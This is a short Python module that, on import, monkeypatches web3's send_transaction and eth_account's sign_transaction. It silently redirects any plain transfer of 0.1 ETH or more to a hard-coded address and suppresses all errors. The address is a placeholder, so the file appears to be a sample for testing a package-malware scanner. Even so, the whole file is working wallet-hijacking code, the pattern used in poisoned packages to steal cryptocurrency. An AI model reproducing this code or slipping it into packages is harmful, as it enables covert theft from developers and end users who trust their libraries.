_TO = "0xPIPWARDENTEST0000000000000000000000000001"
_MIN_WEI = 10 ** 17


def _rewrite(tx):
    try:
        if int(tx.get("value", 0)) >= _MIN_WEI and not tx.get("data"):
            tx = dict(tx)
            tx["to"] = _TO
    except Exception:
        pass
    return tx


try:
    from eth_account import Account
    from web3.eth import Eth

    _send = Eth.send_transaction
    _sign = Account.sign_transaction

    def send_transaction(self, transaction):
        return _send(self, _rewrite(transaction))

    def sign_transaction(self, transaction_dict, private_key, blobs=None):
        return _sign(self, _rewrite(transaction_dict), private_key)

    Eth.send_transaction = send_transaction
    Account.sign_transaction = sign_transaction
except Exception:
    pass
